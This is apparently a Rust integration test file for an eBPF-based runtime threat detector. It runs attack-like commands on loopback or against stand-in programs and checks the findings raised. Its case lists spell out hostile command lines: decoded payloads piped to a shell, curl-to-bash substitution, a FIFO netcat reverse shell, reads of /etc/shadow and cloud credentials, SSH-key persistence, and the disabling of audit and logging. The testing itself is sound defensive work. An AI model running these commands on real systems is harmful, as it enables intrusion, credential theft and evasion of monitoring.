//! Detection against real behaviour on this machine: each test does the thing (runs a tool,
//! a miner, a suspicious command, a setuid program, connects to a listed address, queries a
//! listed name in a network namespace), takes the events the sensors produced for that process
//! tree, runs them through a detector and expects exactly the finding; a benign variant of the
//! same activity expects none. Loopback only: listed addresses are 127.x, listed names are
//! served by `vigil-trigger dns-server` inside a network namespace.
//!
//! These load eBPF programs and need root. Without root they say so and stop; under CI (`CI`
//! set) a missing privilege fails the test instead.

mod support;

use std::{
    collections::{BTreeMap, HashSet},
    io::{BufRead, BufReader, Write},
    net::TcpListener,
    os::unix::{fs::PermissionsExt, process::CommandExt},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::LazyLock,
    time::Duration,
};

use node_agent::{
    collector::Collector,
    collector::root_or_skip as privileged,
    detect::{Detector, NoLookup},
    event::Event,
    sensor::{HookState, SensorOptions},
};
use sha2::{Digest as _, Sha256};
use support::detection::{agent_attached, agent_findings};
use vigil_crds::finding::{Finding, SeverityLabel};
use vigil_detection::{
    DgaModel, FindingType, IndicatorKind, IntelConfig, ListFormat, ListSource, ThreatIntel,
    TrustedIpSource,
};

/// An upper bound, not a duration: on a loaded 2-core machine 10 s was not enough.
const WAIT: Duration = Duration::from_secs(60);
const TRIGGER: &str = env!("CARGO_BIN_EXE_vigil-trigger");
const AGENT_BIN: &str = env!("CARGO_BIN_EXE_node-agent");

/// One agent shared by the tests of this binary.
static AGENT: LazyLock<Collector> = LazyLock::new(|| {
    let agent = Collector::start(SensorOptions::default()).expect("the sensor starts as root");
    // The hooks these tests rely on; others (kernel modules, ...) may be missing on a kernel.
    let needed = [
        "exec",
        "fork",
        "exit",
        "connect",
        "accept",
        "dns_socket",
        "dns_egress",
        "dns_ingress",
    ];
    for hook in agent.hooks().iter().filter(|h| needed.contains(&h.hook)) {
        assert_eq!(
            hook.state,
            HookState::Active,
            "hook {} is not active: {hook}",
            hook.hook
        );
    }
    agent
});

fn nonce() -> String {
    node_agent::collector::unique_name("vd")
}

/// A scratch directory, world-readable (a setuid test runs a program from it as nobody), under
/// the build's temporary directory: a program run from /tmp is a finding of its own
/// (`detection_techniques.rs`).
struct Scratch(PathBuf);

impl Scratch {
    fn new(tag: &str) -> Self {
        let dir =
            Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("vigil-detect-{tag}-{}", nonce()));
        std::fs::create_dir_all(&dir).expect("scratch dir");
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        Self(dir)
    }

    /// Copies a system program under a new name (what an attacker dropping a tool does).
    fn program(&self, from: &str, name: &str) -> PathBuf {
        let to = self.0.join(name);
        std::fs::copy(std::fs::canonicalize(from).expect("resolve"), &to).expect("copy");
        std::fs::set_permissions(&to, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        to
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// Runs a command to completion; returns its pid.
fn run(cmd: &mut Command) -> u32 {
    LazyLock::force(&AGENT);
    let child = support::spawn::spawn(
        cmd.stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null()),
    )
    .expect("spawn");
    let pid = child.id();
    let _ = child.wait_with_output().expect("wait");
    pid
}

/// Every event of the process tree rooted at `root`, once it has exited (see
/// `Collector::tree_events`).
fn tree_events(root: u32) -> Vec<Event> {
    AGENT
        .tree_events(root, WAIT)
        .unwrap_or_else(|| panic!("no exec and exit of {root} within {WAIT:?}"))
}

/// A detector with the built-in rules and DGA model over `intel`.
fn detector(intel: ThreatIntel) -> Detector {
    support::detection::detector_with(
        intel,
        Some(DgaModel::builtin().expect("built-in DGA model")),
        support::detection::builtin_rules(),
    )
}

/// The findings a detector raises over these events, one per id with its final count.
///
/// Tests stage their programs by copying them into a scratch directory from this process, and
/// the agent does not observe its own tasks: such a copy can still carry the writer of an
/// earlier, deleted file whose inode it reuses (the sensor's written-file map is keyed by
/// inode). A new-binary finding whose writer is not part of the process tree under test is
/// that staging, not the behaviour these tests are about, and is left out; the type itself is
/// tested exactly in `detection_behaviour.rs`.
fn findings(detector: &mut Detector, events: &[Event]) -> Vec<Finding> {
    let mut tree: HashSet<u32> = events.iter().map(|e| e.process().pid).collect();
    tree.extend(events.iter().filter_map(|e| match e {
        Event::Fork(f) => Some(f.child_pid),
        _ => None,
    }));
    let mut by_id: BTreeMap<String, Finding> = BTreeMap::new();
    for event in events {
        for outcome in detector.process(event, &NoLookup) {
            let staged = outcome.finding.finding_type == "Execution:Runtime/NewBinaryExecuted"
                && outcome
                    .finding
                    .context
                    .modifying_process
                    .as_ref()
                    .is_some_and(|m| !tree.contains(&m.pid));
            if !staged {
                by_id.insert(outcome.finding.id.clone(), outcome.finding);
            }
        }
    }
    by_id.into_values().collect()
}

fn detect(root: u32, intel: ThreatIntel) -> Vec<Finding> {
    findings(&mut detector(intel), &tree_events(root))
}

fn types(found: &[Finding]) -> Vec<&str> {
    found.iter().map(|f| f.finding_type.as_str()).collect()
}

fn rule_id(f: &Finding) -> &str {
    f.context
        .additional
        .get("ruleId")
        .map(String::as_str)
        .unwrap_or("")
}

/// Intel from list files, as an operator configures it.
fn intel_from(dir: &Path, lists: &[(&str, IndicatorKind, &[&str], FindingType)]) -> ThreatIntel {
    intel_with_trusted(dir, lists, &[])
}

fn intel_with_trusted(
    dir: &Path,
    lists: &[(&str, IndicatorKind, &[&str], FindingType)],
    trusted: &[&str],
) -> ThreatIntel {
    let mut config = IntelConfig {
        builtin: false,
        ..IntelConfig::default()
    };
    for (name, kind, entries, feeds) in lists {
        let path = dir.join(format!("{name}.txt"));
        std::fs::write(&path, format!("# test list\n{}\n", entries.join("\n"))).expect("list");
        config.lists.push(ListSource {
            name: (*name).to_owned(),
            path,
            format: ListFormat::PlainText(*kind),
            feeds: vec![*feeds],
        });
    }
    if !trusted.is_empty() {
        let path = dir.join("trusted.txt");
        std::fs::write(&path, trusted.join("\n")).expect("trusted list");
        config.trusted_ips.push(TrustedIpSource {
            name: "trusted".into(),
            path,
        });
    }
    let (intel, report) = vigil_detection::load(&config).expect("test intel loads");
    assert!(report.malformed.is_empty(), "{:?}", report.malformed);
    intel
}

#[test]
fn suspicious_tool_by_name_and_its_benign_twin() {
    if !privileged("suspicious_tool_by_name_and_its_benign_twin") {
        return;
    }
    let dir = Scratch::new("tool");
    let nmap = dir.program("/bin/true", "nmap");
    let pid = run(Command::new(&nmap).args(["-sS", "127.0.0.1"]));
    let found = detect(pid, ThreatIntel::empty());
    assert_eq!(types(&found), ["Execution:Runtime/SuspiciousTool"]);
    let f = &found[0];
    assert_eq!(rule_id(f), "tool-nmap");
    assert_eq!(f.context.tool_name.as_deref(), Some("nmap"));
    assert_eq!(f.severity_label, SeverityLabel::Medium);
    let p = f.process.as_ref().expect("process");
    assert_eq!(p.pid, pid);
    assert_eq!(p.executable_path, nmap.display().to_string());
    assert_eq!(p.lineage.first().map(|a| a.pid), Some(std::process::id()));
    assert_eq!(
        f.context.command_line_example.as_deref(),
        Some(format!("{} -sS 127.0.0.1", nmap.display()).as_str())
    );

    let twin = dir.program("/bin/true", "netmapper");
    let pid = run(Command::new(&twin).args(["-sS", "127.0.0.1"]));
    assert_eq!(
        types(&detect(pid, ThreatIntel::empty())),
        Vec::<&str>::new()
    );
}

#[test]
fn crypto_miner_by_name_and_by_pool_url() {
    if !privileged("crypto_miner_by_name_and_by_pool_url") {
        return;
    }
    let dir = Scratch::new("miner");
    let xmrig = dir.program("/bin/true", "xmrig");
    let pid = run(Command::new(&xmrig).arg("--version"));
    let found = detect(pid, ThreatIntel::empty());
    assert_eq!(types(&found), ["Impact:Runtime/CryptoMinerExecuted"]);
    assert_eq!(rule_id(&found[0]), "miner-known-binary");
    assert_eq!(found[0].severity_label, SeverityLabel::High);

    let renamed = dir.program("/bin/true", "kworkerd");
    let pid = run(Command::new(&renamed).args(["-o", "stratum+tcp://127.0.0.1:3333"]));
    let found = detect(pid, ThreatIntel::empty());
    assert_eq!(types(&found), ["Impact:Runtime/CryptoMinerExecuted"]);
    assert_eq!(rule_id(&found[0]), "miner-stratum-url");

    let pid = run(Command::new(&renamed).args(["-o", "http://127.0.0.1:3333"]));
    assert!(detect(pid, ThreatIntel::empty()).is_empty());
}

/// A command line and the finding type and rule it must raise (`None`: no finding).
type CommandCase = (Vec<String>, Option<(&'static str, &'static str)>);

#[test]
fn suspicious_commands_of_each_tactic_and_benign_variants() {
    if !privileged("suspicious_commands_of_each_tactic_and_benign_variants") {
        return;
    }
    let dir = Scratch::new("cmd");
    let d = dir.0.display().to_string();
    std::fs::create_dir_all(dir.0.join(".ssh")).expect("ssh dir");
    let target = dir.0.join("file");
    std::fs::write(&target, "x").expect("file");
    let t = target.display().to_string();
    // A file without the setuid bit for the benign chmod (a chmod of a file that is setuid
    // keeps the bit, and the kernel's check reports that mode too).
    let plain = dir.0.join("plain");
    std::fs::write(&plain, "x").expect("plain file");
    let plain = plain.display().to_string();
    let cases: Vec<CommandCase> = vec![
        (
            vec![
                "sh".into(),
                "-c".into(),
                "echo dHJ1ZQo= | base64 -d | sh".into(),
            ],
            Some((
                "Execution:Runtime/SuspiciousCommand",
                "exec-base64-pipe-shell",
            )),
        ),
        (
            vec![
                "sh".into(),
                "-c".into(),
                "echo dHJ1ZQo= | base64 -d | cat".into(),
            ],
            None,
        ),
        (
            vec!["bash".into(), "-c".into(), "history -c".into()],
            Some((
                "DefenseEvasion:Runtime/SuspiciousCommand",
                "evasion-clear-history",
            )),
        ),
        (vec!["bash".into(), "-c".into(), "history".into()], None),
        // A download run from a command substitution (the port is closed: the command is the
        // behaviour the rule knows; nothing is fetched or run).
        (
            vec![
                "sh".into(),
                "-c".into(),
                "bash -c \"$(curl -fsS http://127.0.0.1:9/x.sh)\"".into(),
            ],
            Some((
                "Execution:Runtime/SuspiciousCommand",
                "exec-download-substitution-shell",
            )),
        ),
        (
            vec![
                "sh".into(),
                "-c".into(),
                "v=\"$(curl -fsS http://127.0.0.1:9/version)\"; echo \"$v\"".into(),
            ],
            None,
        ),
        // History switched off the other ways a third-party test writes it.
        (
            vec![
                "bash".into(),
                "-c".into(),
                "export HISTFILESIZE=0; set +o history; true".into(),
            ],
            Some((
                "DefenseEvasion:Runtime/SuspiciousCommand",
                "evasion-clear-history",
            )),
        ),
        (
            vec![
                "bash".into(),
                "-c".into(),
                "export HISTCONTROL=ignoreboth; export HISTIGNORE='*'; true".into(),
            ],
            Some((
                "DefenseEvasion:Runtime/SuspiciousCommand",
                "evasion-clear-history",
            )),
        ),
        (
            vec![
                "bash".into(),
                "-c".into(),
                "export HISTSIZE=5000 HISTCONTROL=erasedups; true".into(),
            ],
            None,
        ),
        (
            vec!["find".into(), d.clone(), "-perm".into(), "-4000".into()],
            Some((
                "Discovery:Runtime/SuspiciousCommand",
                "discovery-suid-search",
            )),
        ),
        (
            vec!["find".into(), d.clone(), "-name".into(), "file".into()],
            None,
        ),
        (
            vec![
                "sh".into(),
                "-c".into(),
                format!("echo ssh-ed25519 AAAAtest >> {d}/.ssh/authorized_keys"),
            ],
            Some((
                "Persistence:Runtime/SuspiciousCommand",
                "persistence-authorized-keys",
            )),
        ),
        (
            vec![
                "sh".into(),
                "-c".into(),
                format!("cat {d}/.ssh/authorized_keys"),
            ],
            None,
        ),
        (
            vec!["chmod".into(), "u+s".into(), t.clone()],
            Some((
                "PrivilegeEscalation:Runtime/SuspiciousCommand",
                "privesc-setuid-bit",
            )),
        ),
        (vec!["chmod".into(), "u+x".into(), plain.clone()], None),
    ];
    for (argv, want) in cases {
        let pid = run(Command::new(&argv[0]).args(&argv[1..]));
        let mut found = detect(pid, ThreatIntel::empty());
        // The shell's append to authorized_keys is also the file modification itself.
        if want.is_some_and(|(_, rule)| rule == "persistence-authorized-keys") {
            let file: Vec<Finding> = found
                .iter()
                .filter(|f| !f.context.additional.contains_key("ruleId"))
                .cloned()
                .collect();
            assert_eq!(
                types(&file),
                ["Persistence:Runtime/SensitiveFileModified"],
                "{argv:?}"
            );
            assert_eq!(
                file[0].context.file_path.as_deref(),
                Some(format!("{d}/.ssh/authorized_keys").as_str())
            );
            found.retain(|f| f.context.additional.contains_key("ruleId"));
            // And the write itself, whoever makes it, is key persistence from behaviour.
            let (behaviour, rest): (Vec<Finding>, Vec<Finding>) = found
                .into_iter()
                .partition(|f| rule_id(f) == "behaviour-persistence-ssh-keys");
            assert_eq!(
                types(&behaviour),
                ["Persistence:Runtime/SuspiciousCommand"],
                "{argv:?}: the write from behaviour"
            );
            found = rest;
        }
        // The decoded stream piped into a shell is also seen from the pipe itself (the
        // behavioural check, which needs no command line): both name it.
        if want.is_some_and(|(_, rule)| rule == "exec-base64-pipe-shell") {
            let (behaviour, rest): (Vec<Finding>, Vec<Finding>) = found
                .into_iter()
                .partition(|f| rule_id(f) == "behaviour-decode-pipe-exec");
            assert_eq!(
                types(&behaviour),
                ["Execution:Runtime/SuspiciousCommand"],
                "{argv:?}: the pipe's reader and writer"
            );
            found = rest;
        }
        // The setuid bit set is also seen from the kernel (the mode read back): both name it.
        if want.is_some_and(|(_, rule)| rule == "privesc-setuid-bit") {
            let (behaviour, rest): (Vec<Finding>, Vec<Finding>) = found
                .into_iter()
                .partition(|f| rule_id(f) == "behaviour-setid-program-made");
            assert_eq!(
                types(&behaviour),
                ["PrivilegeEscalation:Runtime/SuspiciousCommand"],
                "{argv:?}: the mode from the kernel"
            );
            found = rest;
        }
        match want {
            Some((t, rule)) => {
                assert_eq!(types(&found), [t], "{argv:?}");
                assert_eq!(rule_id(&found[0]), rule, "{argv:?}");
            }
            None => assert_eq!(types(&found), Vec::<&str>::new(), "{argv:?}"),
        }
    }
}

/// The discovery, defence-evasion and credential commands of third-party test corpora (Atomic
/// Red Team's Linux tests, Falco's event generator; issue 11, third red-team pass), each run
/// the two ways such a corpus runs it: `sh -c '<line>'` and as a line of a script file
/// (`sh script.sh`). Programs this machine does not have (setenforce, auditctl, tcpdump,
/// tshark, unshadow) are stand-ins, copies of /bin/true under the tool's name, and `service` and
/// `update-rc.d` (which would really stop or disable services) scripts that exit, first on
/// PATH; the rules know programs by executable or script name.
/// Nothing is stopped, scanned or changed outside the scratch directory: systemctl has no
/// systemd here, pkill and killall find no such process, chmod names a file that does not
/// exist, the port scan is of loopback. Each benign variant raises nothing at all.
#[test]
fn third_party_discovery_evasion_and_credential_commands() {
    if !privileged("third_party_discovery_evasion_and_credential_commands") {
        return;
    }
    let dir = Scratch::new("3rd");
    let d = dir.0.display().to_string();
    let bin = dir.0.join("bin");
    std::fs::create_dir_all(&bin).expect("bin");
    for tool in [
        "setenforce",
        "auditctl",
        "tcpdump",
        "tshark",
        "unshadow",
        "ufw",
    ] {
        let to = bin.join(tool);
        std::fs::copy("/bin/true", &to).expect("stand-in");
        std::fs::set_permissions(&to, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    // `service` and Debian's `update-rc.d` are scripts (sh and perl): their stand-ins are too, so
    // the kernel runs the interpreter with the script's path as the first argument, as it runs
    // the real ones.
    for (tool, script) in [
        ("service", "#!/bin/sh\nexit 0\n"),
        ("update-rc.d", "#!/usr/bin/perl\nexit 0;\n"),
    ] {
        let to = bin.join(tool);
        std::fs::write(&to, script).expect("stand-in");
        std::fs::set_permissions(&to, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    for sub in [".ssh", ".aws", "keys"] {
        std::fs::create_dir_all(dir.0.join(sub)).expect("dir");
    }
    for file in [
        ".ssh/id_rsa",
        ".ssh/id_rsa.pub",
        ".aws/credentials",
        "keys/id_rsa",
        "f",
    ] {
        std::fs::write(dir.0.join(file), "x").expect("file");
    }
    let path = format!("{}:/usr/sbin:/usr/bin:/sbin:/bin", bin.display());
    let absent = format!("/etc/vigil-absent-{}", nonce());
    let evasion = "DefenseEvasion:Runtime/SuspiciousCommand";
    let discovery = "Discovery:Runtime/SuspiciousCommand";
    let tool = "Execution:Runtime/SuspiciousTool";
    let cases: Vec<(String, Vec<(&str, &str)>)> = vec![
        // Security software looked for (T1518.001).
        (
            "ps aux | egrep 'falcond|nessusd|cbagentd|td-agent|packetbeat|filebeat|auditbeat|osqueryd'".into(),
            vec![(discovery, "discovery-security-software")],
        ),
        (
            "pgrep -l falco".into(),
            vec![(discovery, "discovery-security-software")],
        ),
        (
            "ls /opt/CrowdStrike".into(),
            vec![(discovery, "discovery-security-software")],
        ),
        ("ps aux | grep -c sshd".into(), vec![]),
        // Security and logging turned off (T1562.001, .006, .012).
        (
            "systemctl stop rsyslog; systemctl disable rsyslog".into(),
            vec![(evasion, "evasion-disable-security")],
        ),
        (
            "service cbdaemon stop".into(),
            vec![(evasion, "evasion-disable-security")],
        ),
        ("setenforce 0".into(), vec![(evasion, "evasion-disable-security")]),
        ("auditctl -e 0".into(), vec![(evasion, "evasion-disable-security")]),
        ("pkill -9 auditd".into(), vec![(evasion, "evasion-disable-security")]),
        ("killall falco".into(), vec![(evasion, "evasion-disable-security")]),
        ("service nginx status".into(), vec![]),
        // Splunk's "Linux Auditd Auditd Service Stop", "Sysmon Service Stop".
        (
            "service auditd stop".into(),
            vec![(evasion, "evasion-disable-security")],
        ),
        (
            "service sysmon stop".into(),
            vec![(evasion, "evasion-disable-security")],
        ),
        (
            "update-rc.d auditd disable".into(),
            vec![(evasion, "evasion-disable-security")],
        ),
        ("update-rc.d nginx defaults".into(), vec![]),
        // A transient systemd timer (Atomic Red Team T1053.006). This machine's init is not
        // systemd, so systemd-run fails after its exec; where it is, the timer runs /bin/true
        // once, in an hour. A scope with a memory limit is not a schedule.
        (
            "systemd-run --on-active=1h /bin/true".into(),
            vec![(
                "Persistence:Runtime/SuspiciousCommand",
                "persistence-systemd-run-timer",
            )],
        ),
        ("systemd-run --scope -p MemoryMax=1G /bin/true".into(), vec![]),
        // Firewall logging off (Atomic Red Team T1562.004 #10), a stand-in ufw.
        (
            "ufw logging off".into(),
            vec![(evasion, "evasion-flush-firewall")],
        ),
        ("ufw logging low".into(), vec![]),
        // File times (T1070.006) and attributes (T1222.002).
        (
            format!("touch -a -t 197001010000.00 {d}/f"),
            vec![
                (evasion, "evasion-timestomp"),
                (evasion, "evasion-timestomp-from-system-file"),
            ],
        ),
        (
            format!("touch -acmr /bin/sh {d}/f"),
            vec![
                (evasion, "evasion-timestomp"),
                (evasion, "evasion-timestomp-from-system-file"),
            ],
        ),
        (
            format!("touch -d 2024-01-01 {d}/f"),
            vec![(evasion, "evasion-timestomp")],
        ),
        (format!("touch {d}/f"), vec![]),
        (
            format!("chattr -ia {d}/f"),
            vec![(evasion, "evasion-immutable-attribute")],
        ),
        (
            format!("chmod 777 {absent}"),
            vec![(evasion, "evasion-system-file-world-writable")],
        ),
        (format!("chmod 777 {d}/f"), vec![]),
        // Credentials in files and private keys (T1552.001, .004), password hashes (T1003.008).
        (
            format!("find {d} -name id_rsa"),
            vec![(discovery, "discovery-credential-files")],
        ),
        (
            format!("find {d} -name '*.pem'"),
            vec![(discovery, "discovery-credential-files")],
        ),
        (format!("find {d} -name '*.rs'"), vec![]),
        (
            "grep -ri password /etc/ssh".into(),
            vec![(discovery, "discovery-password-search")],
        ),
        (format!("grep -ri password {d}"), vec![]),
        (
            format!("cat {d}/.aws/credentials"),
            vec![(discovery, "discovery-credential-file-read")],
        ),
        (
            format!("cp {d}/.ssh/id_rsa {d}/k"),
            vec![(discovery, "discovery-credential-file-read")],
        ),
        (format!("cat {d}/.ssh/id_rsa.pub"), vec![]),
        (
            "cat /etc/shadow > /dev/null".into(),
            vec![(discovery, "discovery-shadow-read")],
        ),
        (
            "bash -c 'echo \"$(< /etc/shadow)\"' > /dev/null".into(),
            vec![(discovery, "discovery-shadow-read")],
        ),
        (
            "ed -s /etc/shadow < /dev/null".into(),
            vec![(discovery, "discovery-shadow-read")],
        ),
        ("cat /etc/passwd > /dev/null".into(), vec![]),
        (
            "unshadow /etc/passwd /etc/shadow".into(),
            vec![(tool, "tool-password-cracker")],
        ),
        // Sniffing (T1040) and scanning loopback (T1046).
        ("tcpdump -c 5 -nnni eth0".into(), vec![(tool, "tool-sniffer")]),
        ("tshark -c 5 -i eth0".into(), vec![(tool, "tool-sniffer")]),
        (
            "nc -z -w 1 127.0.0.1 1-20".into(),
            // The tool by name, and its refused probes: nc connects without blocking, and the
            // refusal is read from the socket (`NetInfo::outcome`).
            vec![
                (discovery, "behaviour-port-scan"),
                (tool, "tool-netcat-scan"),
            ],
        ),
        (
            "bash -c 'for p in $(seq 1 20); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null && echo $p; done'".into(),
            // The command line, and the refused connects themselves (`detect/scan.rs`).
            vec![
                (discovery, "behaviour-port-scan"),
                (discovery, "discovery-port-scan-dev-tcp"),
            ],
        ),
    ];
    for (i, (line, want)) in cases.iter().enumerate() {
        let script = dir.0.join(format!("case-{i}.sh"));
        std::fs::write(&script, format!("{line}\n")).expect("script");
        let ways = [
            ("sh -c", vec!["-c".to_owned(), line.clone()]),
            ("script", vec![script.display().to_string()]),
        ];
        for (how, args) in ways {
            let pid = run(Command::new("sh")
                .args(&args)
                .current_dir(&dir.0)
                .env("PATH", &path));
            let found = detect(pid, ThreatIntel::empty());
            let mut got: Vec<(&str, &str)> = found
                .iter()
                .map(|f| (f.finding_type.as_str(), rule_id(f)))
                .collect();
            got.sort();
            got.dedup();
            assert_eq!(got, *want, "{how}: {line}");
            if want.iter().all(|(t, _)| *t == discovery) {
                // Routine-looking discovery stays Low; password hashes and scans are Medium.
                for f in &found {
                    let medium = matches!(
                        rule_id(f),
                        "discovery-shadow-read"
                            | "discovery-port-scan-dev-tcp"
                            | "behaviour-port-scan"
                    );
                    let label = if medium {
                        SeverityLabel::Medium
                    } else {
                        SeverityLabel::Low
                    };
                    assert_eq!(f.severity_label, label, "{how}: {line}");
                }
            }
        }
    }
}

/// SigmaHQ's Linux process-creation rules (`rules/linux/process_creation/`), each attack as
/// its detection block describes it, run for real as root the two ways a corpus runs it: `sh -c
/// '<line>'` and as a line of a script file. Command strings only a shell's `-c` argv holds
/// (pipes into a shell, a FIFO relay, an encoded payload echoed by a builtin) are run that way
/// alone; a script's lines are not in any argv. Programs this machine lacks, or whose real run
/// would change it (`dmesg -C` empties the kernel's buffer), are stand-ins: copies of
/// `/bin/true` under the tool's name, which is how the rules know them. Each case's findings,
/// from its own process tree, must include the expected ones; the benign twins raise nothing.
#[test]
fn sigma_linux_process_creation_commands() {
    if !privileged("sigma_linux_process_creation_commands") {
        return;
    }
    let dir = Scratch::new("sigma");
    let d = dir.0.display().to_string();
    std::fs::write(dir.0.join("token"), "eyJhbGciOi").expect("token");
    let bin = dir.0.join("bin");
    std::fs::create_dir_all(&bin).expect("bin");
    for tool in [
        "dmesg",
        "hping3",
        "aircrack-ng",
        "zenmap",
        "wireshark",
        "xterm",
        "modprobe",
        "service",
        "ufw-init",
        "bpftrace",
        "iptables",
        "amazon-ssm-agent",
    ] {
        let to = bin.join(tool);
        std::fs::copy("/bin/true", &to).expect("stand-in");
        std::fs::set_permissions(&to, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    // A web server's process: a copy of sh named nginx that runs commands as PHP's system() does.
    let nginx = dir.program("/bin/sh", "nginx");
    for file in [
        ".bash_history",
        ".zsh_history",
        ".history",
        "h.history",
        "payload",
    ] {
        std::fs::write(dir.0.join(file), "id\n").expect("file");
    }
    // `cp` into /tmp is what the rule looks for; the copy is removed at the end.
    let tmp_copy = format!("/tmp/vigil-sigma-{}", nonce());
    let path = format!("{}:/usr/sbin:/usr/bin:/sbin:/bin", bin.display());
    let exec = "Execution:Runtime/SuspiciousCommand";
    let evasion = "DefenseEvasion:Runtime/SuspiciousCommand";
    let discovery = "Discovery:Runtime/SuspiciousCommand";
    let privesc = "PrivilegeEscalation:Runtime/SuspiciousCommand";
    let tool = "Execution:Runtime/SuspiciousTool";
    let miner = "Impact:Runtime/CryptoMinerExecuted";
    let reverse = "Execution:Runtime/ReverseShell";
    // (line, run as a script line too, expected (type, rule) pairs).
    type SigmaCase<'a> = (String, bool, Vec<(&'a str, &'a str)>);
    let cases: Vec<SigmaCase> = vec![
        // GTFOBins shell escapes (Sigma's awk, find, env, nice, flock, capsh, vim rules).
        (
            "awk 'BEGIN {system(\"/bin/sh\")}'".into(),
            true,
            vec![(exec, "exec-shell-escape-via-program")],
        ),
        (
            format!("find {d} -maxdepth 0 -exec /bin/sh \\; -quit"),
            true,
            vec![(exec, "exec-shell-escape-via-program")],
        ),
        (
            "env /bin/sh".into(),
            true,
            vec![(exec, "exec-shell-escape-via-program")],
        ),
        (
            "nice /bin/sh".into(),
            true,
            vec![(exec, "exec-shell-escape-via-program")],
        ),
        (
            "flock -u / /bin/sh".into(),
            true,
            vec![(exec, "exec-shell-escape-via-program")],
        ),
        (
            "capsh --".into(),
            true,
            vec![(exec, "exec-shell-escape-via-program")],
        ),
        (
            "vim -es -c ':!/bin/sh' -c ':q!'".into(),
            true,
            vec![(exec, "exec-shell-escape-via-program")],
        ),
        (
            format!("find {d} -name '*.sh' -exec sh -c 'true \"$1\"' sh {{}} \\;"),
            true,
            vec![],
        ),
        ("env LANG=C true".into(), true, vec![]),
        // Interpreter one-liners (Sigma's python, perl reverse-shell and os.system rules).
        (
            "python3 -c 'import os; os.system(\"/bin/sh\")'".into(),
            true,
            vec![(exec, "exec-interpreter-pty-spawn")],
        ),
        (
            "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"127.0.0.1:9\");exit 0'".into(),
            true,
            vec![(exec, "exec-interpreter-pty-spawn")],
        ),
        (
            "python3 -c 'import os; print(os.getpid())'".into(),
            true,
            vec![],
        ),
        // Command strings (Sigma's pipe-to-shell, DDexec, encoded shebang, FIFO reverse shell).
        (
            format!("cat {d}/payload | sh"),
            false,
            vec![(exec, "exec-pipe-to-shell")],
        ),
        (
            "base64 -w0 /bin/true | sh -c 'cat > /dev/null'".into(),
            false,
            vec![(exec, "exec-base64-pipe-shell")],
        ),
        (
            format!("echo IyEvYmluL3NoCmlkCg== | base64 -d > {d}/a.sh"),
            false,
            vec![(evasion, "exec-encoded-shebang")],
        ),
        (
            format!(
                "rm -f {d}/f; mkfifo {d}/f; cat {d}/f | /bin/sh -i 2>&1 | nc 127.0.0.1 9 > {d}/f"
            ),
            false,
            vec![(reverse, "exec-fifo-reverse-shell")],
        ),
        (format!("ls {d} | wc -l"), false, vec![]),
        // Defence evasion: dmesg, history by the file tools, firewall services.
        (
            "dmesg -C".into(),
            true,
            vec![(evasion, "evasion-clear-kernel-log")],
        ),
        ("dmesg -T".into(), true, vec![]),
        (
            format!("rm {d}/.bash_history"),
            true,
            vec![(evasion, "evasion-clear-history")],
        ),
        (
            format!("truncate -s0 {d}/.zsh_history"),
            true,
            vec![(evasion, "evasion-clear-history")],
        ),
        // tcsh's history is `.history`; a file only ending in `.history` is nobody's.
        (
            format!("ln -sf /dev/null {d}/.history"),
            true,
            vec![(evasion, "evasion-clear-history")],
        ),
        (format!("rm -f {d}/h.history"), true, vec![]),
        (
            "service ip6tables stop".into(),
            true,
            vec![(evasion, "evasion-disable-security")],
        ),
        (
            "ufw-init force-stop".into(),
            true,
            vec![(evasion, "evasion-flush-firewall")],
        ),
        (
            "iptables -F ufw-logging-deny".into(),
            true,
            vec![(evasion, "evasion-flush-firewall")],
        ),
        (
            format!("cat {d}/.bash_history"),
            true,
            vec![(discovery, "discovery-history-read")],
        ),
        (
            "amazon-ssm-agent -register -code c0de -id 1d -region us-east-1".into(),
            true,
            vec![(
                "Persistence:Runtime/SuspiciousCommand",
                "persistence-ssm-agent-registered",
            )],
        ),
        // Discovery.
        (
            "cat /proc/1/cgroup".into(),
            true,
            vec![(discovery, "discovery-container-residence")],
        ),
        (
            "ls /.dockerenv".into(),
            true,
            vec![(discovery, "discovery-container-residence")],
        ),
        (
            format!("cp /etc/passwd {tmp_copy}"),
            true,
            vec![(discovery, "discovery-account-files-copied")],
        ),
        (format!("cp /etc/hostname {d}/h"), true, vec![]),
        // Privilege escalation and injection from the command line.
        (
            "curl -s -m 1 --unix-socket /run/vigil-absent/docker.sock http://localhost/_ping"
                .into(),
            true,
            vec![(privesc, "privesc-docker-socket-from-cli")],
        ),
        (
            "dd if=/dev/zero of=/proc/999999999/mem bs=1 count=0".into(),
            true,
            vec![(
                "DefenseEvasion:Runtime/ProcessInjection.Proc",
                "injection-dd-proc-mem",
            )],
        ),
        (
            format!("dd if=/dev/zero of={d}/img bs=1k count=1"),
            true,
            vec![],
        ),
        // Tools, miners, reverse shells by name and arguments (stand-ins).
        (
            "hping3 -S 127.0.0.1 -p 80".into(),
            true,
            vec![(tool, "tool-masscan")],
        ),
        (
            "aircrack-ng cap.cap".into(),
            true,
            vec![(tool, "tool-password-cracker")],
        ),
        (
            "wireshark -k -i lo".into(),
            true,
            vec![(tool, "tool-sniffer")],
        ),
        (
            "modprobe msr allow_writes=on".into(),
            true,
            vec![(miner, "miner-msr-write")],
        ),
        (
            "xterm -display 10.0.0.1:1".into(),
            true,
            vec![(reverse, "exec-xterm-remote-display")],
        ),
        ("xterm -display localhost:10.0".into(), true, vec![]),
        (
            "bpftrace --unsafe -e 'BEGIN { system(\"id\") }'".into(),
            true,
            vec![(exec, "exec-bpftrace-unsafe")],
        ),
        // A web server running reconnaissance (Sigma's web shell indicators).
        (
            format!("{} -c 'whoami; true'", nginx.display()),
            true,
            vec![(exec, "exec-web-server-recon")],
        ),
        // A web shell client's output markers (China Chopper, AntSword), and the way
        // CrowdStrike's detection container writes them (in `$0`). A script's lines are in no
        // argv, so the shell's own command string only.
        (
            "cd /tmp;id;echo [S];pwd;echo [E]".into(),
            false,
